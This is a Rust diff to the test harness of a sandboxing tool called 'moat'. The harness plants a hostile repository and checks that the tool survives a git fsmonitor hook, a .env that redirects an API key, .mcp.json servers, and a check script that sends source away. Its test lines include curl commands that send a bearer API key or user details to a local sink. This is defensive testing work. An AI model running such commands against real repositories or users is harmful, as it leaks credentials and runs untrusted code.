@@ -38,8 +38,11 @@ struct Row {
     show: Show,
 }
 
+/// Runs the control and then the program, in an empty directory.
+type Demonstration = fn(program: &Path, directory: &Path) -> anyhow::Result<Verdict>;
+
 enum Show {
-    Run(fn(&Path) -> anyhow::Result<Verdict>),
+    Run(Demonstration),
     NotBuilt(&'static str),
 }
 
@@ -71,14 +74,14 @@ const ROWS: &[Row] = &[
 /// # Errors
 /// When Moat did not survive, or something did not run that should have.
 pub(crate) fn run() -> anyhow::Result<()> {
-    moat::binary()?;
+    let program = moat::binary()?;
     let (mut survived, mut not_built, mut failed) = (0, 0, 0);
     for row in ROWS {
         let verdict = match row.show {
             Show::NotBuilt(issue) => Verdict::NotBuilt { issue },
             Show::Run(show) => tempfile::tempdir()
                 .context("could not create a directory")
-                .and_then(|directory| show(directory.path()))
+                .and_then(|directory| show(&program, directory.path()))
                 .unwrap_or_else(|error| Verdict::NotRun { reason: format!("{error:#}") }),
         };
         match verdict {
@@ -118,10 +121,10 @@ fn rendered(failure: &str, verdict: &Verdict) -> String {
 }
 
 /// A plain `git status` runs what `core.fsmonitor` of the repository names.
-fn execution(directory: &Path) -> anyhow::Result<Verdict> {
+fn execution(program: &Path, directory: &Path) -> anyhow::Result<Verdict> {
     let sink = Server::start(Part::Sink)?;
     let hostile = Hostile::plant(directory, sink.port())?;
-    let user = User::new(directory, "home")?;
+    let user = User::new(program, directory, "home")?;
     plain("git", &["status", "--short"], &hostile, &user)?;
     let fired = hostile.take_fired()?;
     anyhow::ensure!(
@@ -133,7 +136,6 @@ fn execution(directory: &Path) -> anyhow::Result<Verdict> {
     let mut started = Vec::new();
     let doctor = user.run(&hostile.workspace, &["doctor"])?;
     let repair = user.repair(&hostile)?;
-    repair.ensure_worked()?;
     for line in doctor.programs.iter().chain(&repair.programs) {
         if line.contains("/.canary/") || line.contains("workspace/git\"") {
             started.push(line.clone());
@@ -155,10 +157,10 @@ fn execution(directory: &Path) -> anyhow::Result<Verdict> {
 }
 
 /// A client that takes its address from the repository's `.env` sends the key there.
-fn stolen_key(directory: &Path) -> anyhow::Result<Verdict> {
+fn stolen_key(program: &Path, directory: &Path) -> anyhow::Result<Verdict> {
     let sink = Server::start(Part::Sink)?;
     let hostile = Hostile::plant(directory, sink.port())?;
-    let user = User::new(directory, "home")?;
+    let user = User::new(program, directory, "home")?;
     let client = "set -a; . ./.env; unset HTTP_PROXY HTTPS_PROXY; \
         curl -s --max-time 5 -H \"Authorization: Bearer $OPENAI_API_KEY\" $OPENAI_BASE_URL/models";
     plain("sh", &["-c", client], &hostile, &user)?;
@@ -170,9 +172,8 @@ fn stolen_key(directory: &Path) -> anyhow::Result<Verdict> {
     let control = "a client that reads `.env` sent the key to the repository's address".to_owned();
 
     // Without the part of the check that connects by itself: that is another row.
-    door::write(&hostile.workspace.join("check.sh"), "exec python3 -m unittest -q\n")?;
+    hostile.make_check_harmless()?;
     let repair = user.repair(&hostile)?;
-    repair.ensure_worked()?;
     let welded = repair.requests.iter().any(|request| request.head.contains(moat::KEY));
     anyhow::ensure!(
         welded,
@@ -186,7 +187,7 @@ fn stolen_key(directory: &Path) -> anyhow::Result<Verdict> {
         Verdict::Survived {
             control,
             evidence: "`moat exec` sent it to the endpoint of the user's configuration only; \
-                no connection to the repository's address (8 files name it)"
+                no connection to the repository's address, which six of its files name"
                 .to_owned(),
         }
     } else {
@@ -195,7 +196,7 @@ fn stolen_key(directory: &Path) -> anyhow::Result<Verdict> {
 }
 
 /// A client that puts its surroundings into its requests sends different bytes for two users.
-fn marks(directory: &Path) -> anyhow::Result<Verdict> {
+fn marks(program: &Path, directory: &Path) -> anyhow::Result<Verdict> {
     let sink = Server::start(Part::Sink)?;
     let twins = [
         ("alice", [("TZ", "Asia/Shanghai"), ("LANG", "zh_CN.UTF-8"), ("USER", "alice")]),
@@ -205,16 +206,15 @@ fn marks(directory: &Path) -> anyhow::Result<Verdict> {
     for (name, variables) in twins {
         let place = directory.join(name).join("place").join(name);
         let hostile = Hostile::plant(&place, sink.port())?;
-        let user = User::new(directory, name)?.with(&variables);
+        let user = User::new(program, directory, name)?.with(&variables);
         let client = format!(
             "curl -s --noproxy '*' --max-time 5 -d \"user=$USER zone=$TZ lang=$LANG dir=$PWD\" http://127.0.0.1:{}/",
             sink.port()
         );
         plain("sh", &["-c", &client], &hostile, &user)?;
         controls.push(sink.take());
-        door::write(&hostile.workspace.join("check.sh"), "exec python3 -m unittest -q\n")?;
+        hostile.make_check_harmless()?;
         let repair = user.repair(&hostile)?;
-        repair.ensure_worked()?;
         let port = user.port().to_string();
         let canonical = |text: &str| text.replace(&port, "PORT");
         bodies.push(
@@ -244,10 +244,10 @@ fn marks(directory: &Path) -> anyhow::Result<Verdict> {
 }
 
 /// A client that starts the servers of `.mcp.json` runs the repository's program.
-fn mcp(directory: &Path) -> anyhow::Result<Verdict> {
+fn mcp(program: &Path, directory: &Path) -> anyhow::Result<Verdict> {
     let sink = Server::start(Part::Sink)?;
     let hostile = Hostile::plant(directory, sink.port())?;
-    let user = User::new(directory, "home")?;
+    let user = User::new(program, directory, "home")?;
     let client = "import json, subprocess\n\
         for server in json.load(open('.mcp.json'))['mcpServers'].values():\n    \
         subprocess.run([server['command'], *server['args']])\n";
@@ -260,7 +260,6 @@ fn mcp(directory: &Path) -> anyhow::Result<Verdict> {
     let control = "a client that reads `.mcp.json` started the repository's server".to_owned();
 
     let repair = user.repair(&hostile)?;
-    repair.ensure_worked()?;
     let mut started = hostile.take_fired()?;
     started.extend(
         repair
@@ -281,10 +280,10 @@ fn mcp(directory: &Path) -> anyhow::Result<Verdict> {
 }
 
 /// A check that sends the source away reaches the attacker when it runs plainly.
-fn leaving_code(directory: &Path) -> anyhow::Result<Verdict> {
+fn leaving_code(program: &Path, directory: &Path) -> anyhow::Result<Verdict> {
     let sink = Server::start(Part::Sink)?;
     let hostile = Hostile::plant(directory, sink.port())?;
-    let user = User::new(directory, "home")?;
+    let user = User::new(program, directory, "home")?;
     plain("sh", &["check.sh"], &hostile, &user)?;
     let taken = sink.take();
     let stolen = taken.iter().filter(|request| request.body.contains("def total"));
@@ -294,7 +293,10 @@ fn leaving_code(directory: &Path) -> anyhow::Result<Verdict> {
         "the repository's test script sent the source away in 2 ways (python, curl)".to_owned();
 
     let repair = user.repair(&hostile)?;
-    repair.ensure_worked()?;
+    anyhow::ensure!(
+        repair.programs.iter().any(|line| line.contains("\"curl\"")),
+        "the check did not try to send anything, so the run shows nothing"
+    );
     let reached = sink.take();
     Ok(if reached.is_empty() {
         Verdict::Survived {
@@ -335,6 +337,8 @@ fn first_difference(one: &[(String, String)], two: &[(String, String)]) -> Strin
 
 #[cfg(test)]
 mod tests {
+    use std::path::PathBuf;
+
     use super::*;
 
     #[test]
@@ -356,12 +360,78 @@ mod tests {
         let directory = tempfile::tempdir().unwrap();
         let sink = Server::start(Part::Sink).unwrap();
         let hostile = Hostile::plant(directory.path(), sink.port()).unwrap();
-        let user = User::new(directory.path(), "home").unwrap();
+        let user = User::new(Path::new("true"), directory.path(), "home").unwrap();
         assert!(hostile.take_fired().unwrap().is_empty(), "planting fires nothing");
         plain("git", &["status"], &hostile, &user).unwrap();
         assert!(hostile.take_fired().unwrap().contains(&"git-fsmonitor".to_owned()));
         let quiet = ["-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null", "status"];
         plain("git", &quiet, &hostile, &user).unwrap();
         assert!(hostile.take_fired().unwrap().is_empty(), "a defused git fires nothing");
+    }
+
+    /// A program in the place of `moat` that repairs, and does `more` besides.
+    fn stand_in(directory: &Path, more: &str) -> PathBuf {
+        let text = format!(
+            "#!/usr/bin/env python3\nimport json, os, re, subprocess, sys, urllib.request\n\
+             if sys.argv[1] != 'exec': sys.exit(0)\n\
+             home = os.environ['XDG_CONFIG_HOME'] + '/moat/'\n\
+             url = re.search('url = \"(.*)\"', open(home + 'config.toml').read()).group(1)\n\
+             def ask(body):\n    \
+                 head = {{'Authorization': 'Bearer ' + open(home + 'model.key').read()}}\n    \
+                 urllib.request.urlopen(urllib.request.Request(url + '/x', body, head)).read()\n\
+             ask(b'{{}}')\n\
+             open('cart.py', 'w').write('def total(prices):\\n    return sum(prices)\\n')\n\
+             sealed = ['unshare', '--user', '--map-root-user', '--net', '--']\n{more}\n"
+        );
+        let program = directory.join("stand-in");
+        door::write_program(&program, &text).unwrap();
+        program
+    }
+
+    /// A row must tell a tool that confines its check from one that does `careless` too.
+    fn tells_apart(show: Demonstration, careless: &str) {
+        let confined = "subprocess.run(sealed + ['sh', 'check.sh'], check=True)";
+        for (more, survives) in [("", true), (careless, false)] {
+            let directory = tempfile::tempdir().unwrap();
+            let program = stand_in(directory.path(), &format!("{confined}\n{more}"));
+            let verdict = show(&program, directory.path()).unwrap();
+            let survived = matches!(verdict, Verdict::Survived { .. });
+            assert_eq!(survived, survives, "{verdict:?}");
+        }
+    }
+
+    #[test]
+    fn a_tool_that_asks_git_falls() {
+        tells_apart(execution, "subprocess.run(['git', 'status'])");
+    }
+
+    #[test]
+    fn a_tool_that_reads_env_files_falls() {
+        let client = ". ./.env; curl -s --noproxy \"*\" $OPENAI_BASE_URL";
+        tells_apart(stolen_key, &format!("subprocess.run(['sh', '-c', '{client}'])"));
+    }
+
+    #[test]
+    fn a_tool_that_marks_its_requests_falls() {
+        tells_apart(marks, "ask(os.environ['USER'].encode())");
+    }
+
+    #[test]
+    fn a_tool_that_starts_the_servers_of_a_repository_falls() {
+        let start = "for s in json.load(open('.mcp.json'))['mcpServers'].values(): \
+            subprocess.run([s['command']])";
+        tells_apart(mcp, start);
+    }
+
+    #[test]
+    fn a_tool_that_runs_the_check_plainly_falls() {
+        tells_apart(leaving_code, "subprocess.run(['sh', 'check.sh'])");
+    }
+
+    #[test]
+    fn a_tool_that_does_nothing_proves_nothing() {
+        let directory = tempfile::tempdir().unwrap();
+        let error = mcp(Path::new("/bin/true"), directory.path()).unwrap_err();
+        assert!(error.to_string().contains("shows nothing"), "{error}");
     }
 }
